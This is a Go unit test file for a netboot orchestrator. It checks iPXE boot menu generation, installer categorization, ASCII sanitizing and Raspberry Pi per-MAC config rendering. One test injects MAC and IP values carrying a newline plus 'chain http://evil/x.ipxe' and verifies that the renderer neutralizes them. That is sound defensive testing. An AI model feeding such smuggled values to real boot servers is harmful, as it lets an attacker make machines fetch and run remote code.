// Copyright 2024 Northern.tech AS
//
//    Licensed under the Apache License, Version 2.0 (the "License");
//    you may not use this file except in compliance with the License.
//    You may obtain a copy of the License at
//
//        http://www.apache.org/licenses/LICENSE-2.0
//
//    Unless required by applicable law or agreed to in writing, software
//    distributed under the License is distributed on an "AS IS" BASIS,
//    WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
//    See the License for the specific language governing permissions and
//    limitations under the License.

package render

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/netboot-orchestrator/netboot/catalog"
	"github.com/netboot-orchestrator/netboot/model"
)

var testOpts = Options{
	Title:        "Netboot Orchestrator",
	BootServerIP: "192.168.1.50",
	IQNPrefix:    "iqn.2024-01.local.netboot",
	BootAPIURL:   "http://192.168.1.50:8000/api/boot/v1",
}

func testCatalog() *catalog.Catalog {
	return &catalog.Catalog{
		BaseURL: "http://192.168.1.50/installers",
		Installers: []catalog.Installer{
			{Name: "Ubuntu Server", Path: "ubuntu.iso"},
			{Name: "debian", Path: "debian-a.iso"},
			{Name: "Debian", Path: "debian-b.iso"},
			{Name: "Windows 11", Path: "win11.iso"},
			{Name: "Proxmox", Path: "pve.iso"},
			{Name: "netboot.xyz", URL: "http://boot.netboot.xyz/menu.ipxe"},
			{Name: "Fedora Net", Kernel: "fedora/vmlinuz", Initrd: "fedora/initrd.img",
				Cmdline: "inst.repo=http://mirror"},
		},
	}
}

func TestASCII(t *testing.T) {
	testCases := []struct {
		In  string
		Out string
	}{
		{In: "plain", Out: "plain"},
		{In: "Pop\u2019s \u201cOS\u201d", Out: `Pop's "OS"`},
		{In: "Caf\u00e9 \u2013 \u00fcber", Out: "Cafe - uber"},
		{In: "wait\u2026", Out: "wait..."},
		{In: "line\nbreak", Out: "line break"},
		{In: "\u65e5\u672c", Out: "??"},
	}
	for _, tc := range testCases {
		t.Run(tc.In, func(t *testing.T) {
			assert.Equal(t, tc.Out, ASCII(tc.In))
		})
	}
}

func TestCategorize(t *testing.T) {
	assert.Equal(t, CategoryWindows, Categorize("Windows Server 2022"))
	assert.Equal(t, CategoryLinux, Categorize("UBUNTU desktop"))
	assert.Equal(t, CategoryInfrastructure, Categorize("Proxmox VE 8"))
	assert.Equal(t, CategoryOther, Categorize("FreeDOS"))
	// first category in display order wins
	assert.Equal(t, CategoryWindows, Categorize("WinPE with Linux tools"))
}

func TestBuildCategories(t *testing.T) {
	cats := BuildCategories(testCatalog())
	require.Len(t, cats, 4)
	assert.Equal(t, CategoryWindows, cats[0].Name)
	assert.Equal(t, CategoryLinux, cats[1].Name)
	assert.Equal(t, CategoryInfrastructure, cats[2].Name)
	assert.Equal(t, CategoryOther, cats[3].Name)

	linux := cats[1].Items
	require.Len(t, linux, 4)
	assert.Equal(t, "Debian", linux[0].Title)
	assert.Equal(t, "os_debian", linux[0].Label)
	assert.Equal(t, "debian", linux[1].Title)
	assert.Equal(t, "os_debian_2", linux[1].Label)
	assert.Equal(t, "Fedora Net", linux[2].Title)
	assert.Equal(t, "Ubuntu Server", linux[3].Title)
	assert.Equal(t, "os_ubuntu_server", linux[3].Label)

	assert.Equal(t, []string{
		"kernel http://192.168.1.50/installers/fedora/vmlinuz inst.repo=http://mirror",
		"initrd http://192.168.1.50/installers/fedora/initrd.img",
		"boot",
	}, linux[2].Commands)
	assert.Equal(t, []string{"sanboot --no-describe http://192.168.1.50/installers/ubuntu.iso"},
		linux[3].Commands)
	assert.Equal(t, []string{"chain http://boot.netboot.xyz/menu.ipxe"}, cats[3].Items[0].Commands)

	for _, c := range cats {
		for _, it := range c.Items {
			assert.Regexp(t, `^os_[a-z0-9_]+$`, it.Label)
		}
	}
}

func TestBuildCategoriesEmpty(t *testing.T) {
	assert.Empty(t, BuildCategories(&catalog.Catalog{}))
	assert.Nil(t, BuildCategories(nil))
}

func TestBuildBootScript(t *testing.T) {
	mac := "aa:bb:cc:dd:ee:ff"
	img := &model.Image{ID: "win11", Name: "Win 11", AssignedTo: mac, Status: model.ImageStatusReady}

	testCases := []struct {
		Name   string
		Input  BootInput
		Direct bool
	}{
		{
			Name:  "unknown device",
			Input: BootInput{MAC: mac, Catalog: testCatalog()},
		},
		{
			Name: "enabled with image",
			Input: BootInput{MAC: mac, Catalog: testCatalog(),
				Device: &model.Device{MAC: mac, Enabled: true, ImageID: "win11"},
				Image:  img,
			},
			Direct: true,
		},
		{
			Name: "disabled with image",
			Input: BootInput{MAC: mac, Catalog: testCatalog(),
				Device: &model.Device{MAC: mac, Enabled: false, ImageID: "win11"},
				Image:  img,
			},
		},
		{
			Name: "enabled without image",
			Input: BootInput{MAC: mac, Catalog: testCatalog(),
				Device: &model.Device{MAC: mac, Enabled: true},
			},
		},
	}
	for _, tc := range testCases {
		t.Run(tc.Name, func(t *testing.T) {
			s := BuildBootScript(tc.Input, testOpts)
			text := s.Render()
			assert.True(t, strings.HasPrefix(text, "#!ipxe\n"))
			assert.NotContains(t, text, "--timeout")
			if tc.Direct {
				require.NotNil(t, s.Direct)
				assert.Nil(t, s.Menu)
				assert.Contains(t, text,
					"set initiator-iqn iqn.2024-01.local.netboot:client-aa-bb-cc-dd-ee-ff\n")
				assert.Contains(t, text,
					"sanboot iscsi:192.168.1.50::::iqn.2024-01.local.netboot:win11 || goto failed\n")
				assert.NotContains(t, text, "os_")
			} else {
				assert.Nil(t, s.Direct)
				assert.NotNil(t, s.Menu)
				assert.Contains(t, text, "item os_ubuntu_server Ubuntu Server\n")
				assert.NotContains(t, text, "initiator-iqn")
			}
		})
	}
}

func TestBootScriptIdentity(t *testing.T) {
	s := BuildBootScript(BootInput{Notice: "Unknown device \u2014 register it"}, testOpts)
	text := s.Render()
	assert.Contains(t, text, "MAC: ${net0/mac}")
	assert.Contains(t, text, "IP:  ${net0/ip}")
	assert.Contains(t, text, "Unknown device -- register it")

	s = BuildBootScript(BootInput{MAC: "aa:bb:cc:dd:ee:ff", IP: "10.0.0.9"}, testOpts)
	text = s.Render()
	assert.Contains(t, text, "MAC: aa:bb:cc:dd:ee:ff")
	assert.Contains(t, text, "IP:  10.0.0.9")
}

func TestBootScriptIdentityLineBreaks(t *testing.T) {
	for _, in := range []BootInput{
		{MAC: "aa:bb:cc:dd:ee:ff", IP: "10.0.0.5\nchain http://evil/x.ipxe"},
		{MAC: "aa:bb:cc:dd:ee:ff\r\nchain http://evil/x.ipxe", IP: "10.0.0.5"},
	} {
		text := BuildBootScript(in, testOpts).Render()
		for _, line := range strings.Split(text, "\n") {
			assert.False(t, strings.HasPrefix(line, "chain"), line)
		}
		assert.Contains(t, text, " chain http://evil/x.ipxe")
	}
}

func TestBootScriptDeterministic(t *testing.T) {
	in := BootInput{MAC: "aa:bb:cc:dd:ee:ff", Catalog: testCatalog()}
	first := BuildBootScript(in, testOpts).Render()
	for i := 0; i < 10; i++ {
		assert.Equal(t, first, BuildBootScript(in, testOpts).Render())
	}
	for _, b := range []byte(first) {
		assert.Less(t, b, byte(0x80))
	}
}

func TestRenderPerMacConfig(t *testing.T) {
	mac := "dc:a6:32:00:00:01"
	sets := []model.KernelSet{
		{Name: "default", KernelURL: "http://srv/k/kernel8.img",
			InitramfsURL: "http://srv/k/initramfs8", IsDefault: true},
		{Name: "rt", KernelURL: "http://srv/rt/kernel8-rt.img", Cmdline: "isolcpus=3"},
		{Name: "broken"},
	}
	img := &model.Image{ID: "pi-root", AssignedTo: mac}

	testCases := []struct {
		Name    string
		Device  model.Device
		Image   *model.Image
		Config  string
		Cmdline string
		Error   error
	}{
		{
			Name:   "image boot with own kernel set",
			Device: model.Device{MAC: mac, DeviceType: model.DeviceTypeRaspi, Enabled: true, ImageID: "pi-root", KernelSet: "rt"},
			Image:  img,
			Config: "# netboot: dc:a6:32:00:00:01 (rt)\n[all]\narm_64bit=1\nenable_uart=1\nkernel=kernel8-rt.img\n",
			Cmdline: "ip=dhcp ISCSI_INITIATOR=iqn.2024-01.local.netboot:client-dc-a6-32-00-00-01 " +
				"ISCSI_TARGET_NAME=iqn.2024-01.local.netboot:pi-root ISCSI_TARGET_IP=192.168.1.50 " +
				"ISCSI_TARGET_PORT=3260 root=LABEL=root rw rootwait isolcpus=3\n",
		},
		{
			Name:   "disabled uses default set in menu mode",
			Device: model.Device{MAC: mac, DeviceType: model.DeviceTypeRaspi, ImageID: "pi-root", KernelSet: "rt"},
			Image:  img,
			Config: "# netboot: dc:a6:32:00:00:01 (default)\n[all]\narm_64bit=1\nenable_uart=1\n" +
				"kernel=kernel8.img\ninitramfs initramfs8 followkernel\n",
			Cmdline: "ip=dhcp netboot.mode=menu netboot.api=http://192.168.1.50:8000/api/boot/v1\n",
		},
		{
			Name:   "x64 without image",
			Device: model.Device{MAC: mac, DeviceType: model.DeviceTypeX64, Enabled: true},
			Config: "# netboot: dc:a6:32:00:00:01 (default)\n[all]\n" +
				"kernel=kernel8.img\ninitramfs initramfs8 followkernel\n",
			Cmdline: "ip=dhcp netboot.mode=menu netboot.api=http://192.168.1.50:8000/api/boot/v1\n",
		},
		{
			Name:   "missing kernel set",
			Device: model.Device{MAC: mac, Enabled: true, ImageID: "pi-root", KernelSet: "gone"},
			Image:  img,
			Error:  model.ErrRenderFailure,
		},
		{
			Name:   "kernel set without kernel",
			Device: model.Device{MAC: mac, Enabled: true, ImageID: "pi-root", KernelSet: "broken"},
			Image:  img,
			Error:  model.ErrRenderFailure,
		},
	}
	for _, tc := range testCases {
		t.Run(tc.Name, func(t *testing.T) {
			cfg, err := RenderPerMacConfig(tc.Device, tc.Image, sets, testOpts)
			if tc.Error != nil {
				assert.True(t, errors.Is(err, tc.Error), err)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tc.Config, string(cfg.Config))
			assert.Equal(t, tc.Cmdline, string(cfg.Cmdline))

			again, _ := RenderPerMacConfig(tc.Device, tc.Image, sets, testOpts)
			assert.Equal(t, cfg, again)
		})
	}
}
